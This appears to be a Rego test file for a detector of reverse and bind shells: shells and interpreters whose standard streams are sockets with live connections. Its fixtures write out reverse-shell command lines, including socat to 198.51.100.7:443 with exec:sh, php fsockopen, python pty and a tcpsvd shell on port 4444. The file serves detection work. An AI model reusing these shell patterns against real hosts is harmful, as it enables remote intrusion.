package rummage.network.shell_socket_test

import data.rummage.network.shell_socket as rule

process(pid, ppid, exe, args, streams) := {
	"pid": pid, "ppid": ppid, "exe": exe, "exe_state": "image", "command": concat(" ", args),
	"args": args, "cwd": "/", "streams": streams,
}

one := ["socket:[7]", "socket:[7]", "socket:[7]"]

pairs := ["socket:[7]", "socket:[8]", "socket:[9]"]

pipes := ["pipe:[7]", "pipe:[8]", "pipe:[9]"]

connection(pid) := {"protocol": "tcp", "state": "ESTABLISHED", "local": "10.0.0.2:40000", "local_port": 40000, "remote": "198.51.100.7:443", "remote_port": 443, "pid": pid}

found(processes, sockets) := n if {
	n := count(rule.findings) with input as {
		"processes": processes, "sockets": sockets, "changes": [{"path": "/var/www/x.py", "kind": "added", "type": "file"}],
	}
}

shell(args, streams) := process(20, 10, "/usr/bin/bash", args, streams)

python(args, streams) := process(20, 10, "/usr/bin/python3.11", args, streams)

test_fires_on_shells if {
	every args in [["bash"], ["bash", "-i"], ["-bash"], ["sh", "-c", "sh -i"], ["bash", "/tmp/x.sh"]] {
		found([shell(args, one)], [connection(20)]) == 1
		found([shell(args, ["socket:[7]", "pipe:[8]", "pipe:[9]"])], [connection(20)]) == 1
		found([shell(args, ["/dev/null", "socket:[7]", "socket:[7]"])], [connection(20)]) == 1
	}
	found([process(20, 10, "/bin/busybox", ["/bin/sh"], one)], [connection(20)]) == 1
}

test_fires_on_interpreters if {
	found([python(["python3", "-c", "import pty"], one)], [connection(20)]) == 1
	found([python(["python3", "/var/www/x.py"], one)], [connection(20)]) == 1
	found([process(20, 10, "/usr/bin/perl", ["perl", "-e", "x"], one)], [connection(20)]) == 1
}

test_fires_on_other_protocols_and_states if {
	every change in [{"protocol": "tcp6"}, {"state": "CLOSE_WAIT"}, {"protocol": "udp", "state": ""}] {
		found([shell(["bash"], one)], [object.union(connection(20), change)]) == 1
	}
}

# The lowest of those who hold a connection is told: here the parent.
test_fires_on_a_connection_that_was_handed_down if {
	php := process(10, 1, "/usr/bin/php8.2", ["php", "-r", "fsockopen"], pipes)
	found([php, shell(["sh", "-i"], one)], [connection(10)]) == 1
	found([php, process(15, 10, "/usr/bin/dash", ["sh", "-c", "sh -i"], pipes), process(20, 15, "/usr/bin/dash", ["sh", "-i"], one)], [connection(10)]) == 1
	found([process(10, 1, "/usr/sbin/php-fpm8.2", ["php-fpm: pool www"], ["socket:[3]", "/dev/null", "pipe:[4]"]), shell(["sh"], one)], [connection(10)]) == 1
	found([process(10, 1, "/usr/bin/socat", ["socat", "tcp:198.51.100.7:443", "exec:sh"], pipes), shell(["sh"], one)], [connection(10)]) == 1
}

test_fires_once_with_what_the_shell_starts if {
	found([shell(["bash", "-i"], one), process(21, 20, "/usr/bin/dash", ["sh", "-c", "id; ls"], one)], [connection(20)]) == 1
}

test_fires_on_a_bare_shell_of_an_inetd if {
	found([process(10, 1, "/bin/busybox", ["tcpsvd", "0", "4444", "sh"], pipes), shell(["sh"], one)], [connection(20)]) == 1
}

test_fires_with_the_peer if {
	{f.evidence.peers | some f in rule.findings} == {{"198.51.100.7:443"}} with input as {"processes": [shell(["bash"], one)], "sockets": [connection(20)]}
}

test_silent_without_a_connection if {
	found([shell(["bash", "-i"], one)], []) == 0
	found([shell(["bash", "-i"], one)], [object.union(connection(20), {"state": "LISTEN"})]) == 0
	found([shell(["bash", "-i"], one)], [connection(99)]) == 0
	found([object.remove(shell(["bash", "-i"], one), ["streams"])], [connection(20)]) == 0
}

# Node gives what it starts a pair of sockets for each stream, and holds
# connections of its own.
test_silent_on_children_of_node if {
	node := process(10, 1, "/usr/local/bin/node", ["node", "/app/server.js"], pipes)
	found([node, shell(["/bin/sh", "-c", "ls; df"], pairs)], [connection(10)]) == 0
	found([node, python(["python3", "-c", "import x"], pairs)], [connection(10), connection(20)]) == 0
	found([node, shell(["bash", "/app/check.sh"], pairs)], [connection(10), connection(20)]) == 0
}

test_silent_on_fastcgi if {
	every p in [
		process(20, 10, "/usr/sbin/php-fpm8.2", ["php-fpm: pool www", ""], ["socket:[7]", "/dev/null", "pipe:[8]"]),
		process(20, 10, "/usr/bin/php-cgi8.2", ["/usr/bin/php-cgi"], ["socket:[7]", "/dev/null", "pipe:[8]"]),
		process(20, 10, "/usr/bin/python3.11", ["python3", "/srv/app.fcgi"], ["socket:[7]", "pipe:[8]", "pipe:[9]"]),
		process(20, 10, "/usr/bin/perl", ["perl", "/usr/share/munin/munin-cgi-graph"], ["socket:[7]", "/dev/null", "pipe:[8]"]),
		process(20, 10, "/usr/bin/uwsgi-core", ["uwsgi", "--ini", "x"], ["socket:[7]", "pipe:[8]", "pipe:[9]"]),
	] {
		found([p], [connection(20)]) == 0
	}
}

# popen of a worker that has the listening socket as its standard input.
test_silent_on_children_of_fastcgi if {
	fpm := process(10, 1, "/usr/sbin/php-fpm8.2", ["php-fpm: pool www", ""], ["socket:[7]", "/dev/null", "pipe:[8]"])
	found([fpm, shell(["sh", "-c", "/usr/sbin/sendmail -t; x"], ["socket:[7]", "pipe:[5]", "pipe:[6]"])], [connection(10)]) == 0
}

test_silent_on_sessions_of_sshd if {
	every name in ["sshd", "sshd-session", "dropbear", "in.rshd"] {
		login := process(10, 1, concat("/", ["/usr/sbin", name]), [name], pipes)
		found([login, shell(["bash", "-c", "id"], one)], [connection(10)]) == 0
		found([login, shell(["-bash"], one)], [connection(10)]) == 0
	}
}

test_silent_on_services_of_an_inetd if {
	every exe in ["/usr/sbin/inetd", "/usr/sbin/xinetd", "/usr/lib/systemd/systemd", "/usr/bin/tcpserver", "/usr/bin/s6-tcpserverd", "/usr/bin/socat"] {
		inetd := process(10, 1, exe, ["x"], pipes)
		found([inetd, shell(["bash", "/usr/local/bin/answer.sh"], one)], [connection(20)]) == 0
		found([inetd, shell(["sh", "-c", "echo ok; date"], one)], [connection(20)]) == 0
	}
	found([process(10, 1, "/bin/busybox", ["inetd", "-f"], pipes), shell(["sh", "-c", "echo ok; date"], one)], [connection(20)]) == 0
}

test_silent_on_the_images_services if {
	found([python(["python3", "/srv/app.py"], one)], [connection(20)]) == 0
	found([process(20, 10, "/usr/local/bin/node", ["node", "/app/server.js"], ["socket:[7]", "socket:[7]", "socket:[7]"])], [connection(20)]) == 0
	found([process(20, 1, "/usr/sbin/nginx", ["nginx: worker process"], one)], [connection(20)]) == 0
}

test_silent_on_logs_to_a_socket if {
	found([shell(["bash", "/usr/local/bin/loop.sh"], ["/dev/null", "socket:[7]", "socket:[7]"])], [connection(20)]) == 0
}
